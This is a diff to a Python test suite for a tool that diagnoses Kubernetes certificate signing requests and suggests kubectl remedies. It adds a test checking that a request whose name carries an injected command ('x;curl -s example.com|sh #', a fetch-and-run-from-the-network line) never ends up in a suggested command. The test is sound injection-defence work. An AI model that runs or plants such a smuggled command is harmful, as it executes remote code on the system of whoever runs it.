@@ -349,6 +349,12 @@ CODES: list[tuple[str, dict[str, Any], dict[str, Any], tuple[str, str]]] = [
     # other signers
     ("a misspelt signer", csr(approved(), signerName="kubernetes.io/kublet-serving"), {"provider": ON_KUBEADM}, ("no-such-signer", "likely")),
     ("a signer of cert-manager", csr(approved(), signerName=CLUSTER_ISSUER), {}, ("cert-manager-gate-off", "likely")),
+    (
+        "a signer of cert-manager without the permission to read Events",
+        csr(approved(), signerName=CLUSTER_ISSUER),
+        {"unreadable": ("cannot read Events: events is forbidden",)},
+        ("approved-not-issued", "one of"),
+    ),
     ("it has issued before", csr(approved(), signerName=CLUSTER_ISSUER), {"stats": SignerStats(issued=1)}, ("approved-not-issued", "one of")),
     (
         "a Warning Event",
@@ -447,6 +453,24 @@ def test_a_request_that_cannot_be_compared_is_to_be_denied(permissions: dict[str
     assert found.code in ("never-approved", "no-right-to-approve")
     assert "kubectl certificate deny hook-apps-1a2b" in found.remedy
     assert "kubectl certificate approve" not in found.remedy
+
+
+HOSTILE = "x;curl -s example.com|sh #"
+
+
+@pytest.mark.parametrize(
+    ("obj", "known"),
+    [
+        (csr(name=HOSTILE), {}),
+        (csr(name=HOSTILE), {"lacking": LACKING}),
+        (csr(name=HOSTILE, pem=request() + request()), {}),
+        (csr(approved(stamp(ago(days=3))), name=HOSTILE), {"provider": ON_KUBEADM}),
+    ],
+)
+def test_a_name_that_is_a_command_is_in_no_command_line(obj: dict[str, Any], known: dict[str, Any]) -> None:
+    found = diagnosed(obj, **known)
+    assert "kubectl" in found.remedy
+    assert HOSTILE not in found.remedy
 
 
 def test_a_missing_permission_comes_with_its_role() -> None:
